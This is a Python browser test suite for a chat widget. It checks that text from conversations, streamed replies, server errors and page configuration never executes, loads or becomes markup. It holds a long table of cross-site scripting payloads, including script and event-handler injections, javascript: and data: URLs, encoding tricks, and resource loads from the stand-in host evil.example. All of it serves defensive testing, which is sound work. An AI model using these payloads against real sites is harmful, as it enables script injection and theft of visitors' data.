"""Text from anywhere stays text: nothing of it runs, loads, or becomes an element, a link or an attribute."""

import re
from html import escape

import pytest
from playwright.sync_api import expect

from tests.browser.chromium import launched  # noqa: F401 - skips where there is no browser
from tests.browser.widget.site import streaming, told

RUN = "(top.ran=parent.ran=window.ran=1)"
TABLE = r'''
<script>RUN</script>
<script src=//evil.example/x.js></script>
<script type=module>import('//evil.example/x.js')</script>
<ScRiPt >RUN</sCrIpT >
<scr<script>ipt>RUN</scr</script>ipt>
</script><script>RUN</script>
</style><script>RUN</script>
</title></textarea></noscript><script>RUN</script>
"><script>RUN</script>
'><script>RUN</script>
]]><script>RUN</script>
--><script>RUN</script>
<!--<script>RUN//--></script>
<img src=x onerror=RUN>
<img src=//evil.example/pixel.gif>
<img/src='x'/onerror='RUN'>
<IMG """><IMG SRC=x ONERROR=RUN>
<img srcset="//evil.example/a.png 2x" src>
<svg onload=RUN>
<svg><script>RUN</script></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>RUN</script></svg>#x">
<svg><a xlink:href="javascript:RUN"><text x=9 y=9>a</text></a></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>
<noscript><p title="</noscript><img src=x onerror=RUN>">
<body onload=RUN>
<input autofocus onfocus=RUN>
<details open ontoggle=RUN>x</details>
<video><source onerror=RUN></video>
<audio src=//evil.example/a.mp3 autoplay onerror=RUN>
<iframe src="javascript:RUN"></iframe>
<iframe srcdoc="<script>RUN</script>"></iframe>
<object data="data:text/html,<script>RUN</script>"></object>
<embed src="//evil.example/x.swf">
<link rel=stylesheet href=//evil.example/x.css>
<link rel=prefetch href="//evil.example/x">
<style>@import'//evil.example/x.css';</style>
<style>*{background:url(//evil.example/x)}</style>
<p style="background:url(//evil.example/x)">x</p>
<p style="width:expression(RUN)">x</p>
<base href="//evil.example/">
<meta http-equiv=refresh content="0;url=//evil.example/">
<meta http-equiv="Content-Security-Policy" content="script-src *">
<form action="//evil.example/"><button formaction="javascript:RUN">Send</button></form>
<a href="javascript:RUN" onclick=RUN>988</a>
<a href="tel:1-900-555-0199">Call us</a>
<footnote-chat onclick=RUN>x</footnote-chat>
<template shadowrootmode=open><img src=x onerror=RUN></template>
javascript:RUN
JaVaScRiPt:RUN
java	script:RUN
javascript://findahelpline.com/%0aRUN
vbscript:RUN
data:text/html,<script>RUN</script>
data:text/html;base64,PHNjcmlwdD50b3AucmFuPTE8L3NjcmlwdD4=
blob:http://evil.example/0
//evil.example/x
https://evil.example/findahelpline.com
https://findahelpline.com@evil.example/
https://findahelpline.com.evil.example/
http:evil.example
\\evil.example\x
tel:1-900-555-0199
sms:988?body=x
988;ext=RUN
${RUN}
{{constructor.constructor('RUN')()}}
#{RUN} <%= RUN %> {n} {text} {language} $& $1
&lt;script&gt;RUN&lt;/script&gt;
&#60;img src=x onerror=RUN&#62;
\x3cscript\x3eRUN\x3c/script\x3e
\u003cimg src=x onerror=RUN\u003e
[click](javascript:RUN)
![x](//evil.example/x.png)
[988](tel:19005550199 "x")
<https://evil.example/>
`<img src=x onerror=RUN>`
__proto__
constructor
" onmouseover=RUN x="
' onfocus=RUN autofocus x='
`-RUN-`
';RUN//
%3Cscript%3ERUN%3C/script%3E
+ADw-script+AD4-RUN+ADw-/script+AD4-
'''
PAYLOADS = (
    *TABLE.replace("RUN", RUN).strip().split("\n"),
    f"\u202e<script>{RUN}</script>\u202c",
    f"\u2066tpircs\u2069<img src=x onerror={RUN}>",
    f"<scr\0ipt>{RUN}</scr\0ipt>",
    f"<img\0 src=x\0 onerror={RUN}>",
    f"java\0script:{RUN}",
    f"\ufeff<svg/onload={RUN}>",
    f"＜script＞{RUN}＜/script＞",
    "<" * 200 + "b" * 200,
)
PANEL = set(
    "html head meta title link script body header h1 button main div footer form label textarea dialog noscript p"
    " article aside ul li details summary blockquote mark span a svg path".split()
)
PAGE = set("html head meta title script body p footnote-chat button div iframe".split())
ATTRIBUTE = re.compile(r"on.*|srcset|srcdoc|style|.*action|.+:href|data|ping|slot|is|http-equiv")
SURVEY = """() => {
  const roots = [document, ...[...document.querySelectorAll("*")].map((e) => e.shadowRoot).filter(Boolean)];
  const all = roots.flatMap((root) => [...root.querySelectorAll("*")]);
  return {
    ran: window.ran ?? null,
    elements: all.map((e) => e.localName),
    attributes: all.slice(1).flatMap((e) => e.getAttributeNames().filter((name) => e.getAttribute(name))),
    addresses: all.flatMap((e) => [e.href, e.src]).filter((url) => typeof url === "string"),
    scripts: all.filter((e) => e.localName === "script").map((e) => e.textContent).join(""),
  };
}"""
TEXTS = """(all) => all.map((e) =>
  [...e.childNodes].filter((n) => n.localName !== "button").map((n) => n.textContent).join(""))"""


def texts(seen, sink: str) -> list[str]:
    return seen.panel.locator(sink).evaluate_all(TEXTS)


def listen(seen):
    """Counts a dialog among the complaints."""
    seen.page.on("dialog", lambda dialog: (seen.complaints.append(dialog.message), dialog.dismiss()))
    return seen


def check(seen) -> None:
    """0 executions, 0 requests to elsewhere, nothing in panel or page that is not theirs."""
    site, bot = ("/".join(frame.url.split("/")[:3]) for frame in (seen.page.main_frame, seen.frame))
    assert [url for url in seen.requested if not url.startswith((site + "/", bot + "/"))] == []
    assert [said for said in seen.complaints if not said.startswith("Failed to load resource")] == []
    outward = rf"https://(findahelpline\.com|clinicaltrials\.gov)/|tel:(988|911|1800\d{{7}})|{bot}/(source/.*|widget.*)"
    for frame, elements in ((seen.frame, PANEL), (seen.page.main_frame, PAGE)):
        found = frame.evaluate(SURVEY)
        assert (found["ran"], found["scripts"]) == (None, "")
        assert set(found["elements"]) <= elements
        assert [name for name in found["attributes"] if ATTRIBUTE.fullmatch(name)] == []
        assert [url for url in found["addresses"] if not re.fullmatch(outward, url)] == []


def spoiled(reply: dict, payload: str) -> dict:
    """A reply that says it wherever a reply says something."""
    place = reply["citations"][0] | {"document_id": payload, "document_title": payload, "section": payload}
    place |= {"quote": payload, "context": f"{payload} and {payload}", "url": payload}
    names = ("text", "understood", "standalone_question", "kind", "reply_id", "answered_by", "disclaimer")
    return (
        reply
        | dict.fromkeys(names, payload)
        | {
            "sentences": [{"text": payload, "citations": [], "support": 1.0}],
            "citations": [place],
            "related": [place | {"n": payload, "context": "Elsewhere."}],
            "notices": [{"id": payload, "text": payload}],
        }
    )


def test_the_table_holds_as_many_as_it_should() -> None:
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 60


def test_a_restored_conversation_is_text(visit, site, reply) -> None:
    seen = listen(visit(site.page("/near", head=site.near)))
    seen.open()
    seen.ask()
    turns = [{"message": payload, "reply": spoiled(reply, payload)} for payload in PAYLOADS]
    seen.page.route("**/api/v1/conversations/*", lambda route: route.fulfill(json={"turns": turns}))
    seen.page.reload()
    expect(seen.panel.locator("article.reply[data-kind=answer]")).to_have_count(len(PAYLOADS))
    sinks = {"article.asked": "{}", ".sentence": "{}", ".notice": "{}", ".understood": "Understood as: {}"}
    for place in ("aside:nth-of-type(1) ", "aside:nth-of-type(2) "):
        sinks |= {place + "summary [dir]": "{}", place + "mark": "{}"}
    sinks |= {"aside:nth-of-type(1) blockquote": "{0} and {0}", "aside:nth-of-type(2) .number": "{}"}
    assert len(sinks) * len(PAYLOADS) >= 600
    for sink, form in sinks.items():
        assert texts(seen, sink) == [form.format(payload) for payload in PAYLOADS], sink
    expect(seen.panel.locator("a.source")).to_have_count(0)
    seen.panel.locator("details").evaluate_all("all => all.forEach((note) => (note.open = true))")
    check(seen)


def test_an_answer_on_its_way_and_what_it_suggests_are_text(visit, server, reply) -> None:
    sentences = [{"text": payload, "citations": [1], "support": 1.0} for payload in PAYLOADS]
    events = told(reply, sentences=sentences, suggestions=PAYLOADS, kind=PAYLOADS[0])
    seen = listen(visit())
    seen.open()
    server.chat = streaming(*events[:-1])
    seen.ask()
    assert texts(seen, ".sentence") == list(PAYLOADS)
    server.chat = streaming(*events)
    seen.button("Try again").click()
    expect(seen.panel.locator("#suggestions button")).to_have_count(len(PAYLOADS))
    assert texts(seen, "#suggestions button") == texts(seen, ".sentence") == list(PAYLOADS)
    check(seen)


def test_what_a_visitor_writes_and_a_server_complains_of_is_text(visit) -> None:
    seen = listen(visit())
    seen.open()
    for at, payload in enumerate(PAYLOADS):
        problem = {"status": 500, "json": {"title": payload, "detail": payload}}
        seen.page.route("**/api/v1/chat", lambda route, _, problem=problem: route.fulfill(**problem), times=1)
        seen.send(payload)
        seen.panel.locator("article.reply").nth(at).wait_for()
    assert texts(seen, "article.asked") == [payload.strip("\ufeff") for payload in PAYLOADS]
    check(seen)


@pytest.mark.parametrize("start", range(0, len(PAYLOADS), 8))
def test_what_page_and_bot_say_of_themselves_is_text(visit, site, config, start: int) -> None:
    some = [payload for payload in PAYLOADS if "\0" not in payload][start : start + 8]
    together = " ".join(some)
    altered = config | {"examples": some, "disclaimer": together, "title": together, "language": some[0]}
    chosen = dict.fromkeys(("title", "color", "position", "theme"), escape(some[0]))
    page = site.page("/said", head=site.tag(**chosen, greeting=escape(together), open=""))
    seen = listen(visit())
    seen.page.route("**/api/v1/config", lambda route: route.fulfill(json=altered))
    seen.page.goto(page)
    expect(seen.panel.locator("#suggestions button")).to_have_count(len(some))
    assert texts(seen, "#suggestions button") == some
    assert texts(seen, "#title, .greeting, #disclaimer") == [some[0][:100], together[:500], together]
    assert seen.launch.get_attribute("title") == some[0]
    seen.ask()
    check(seen)
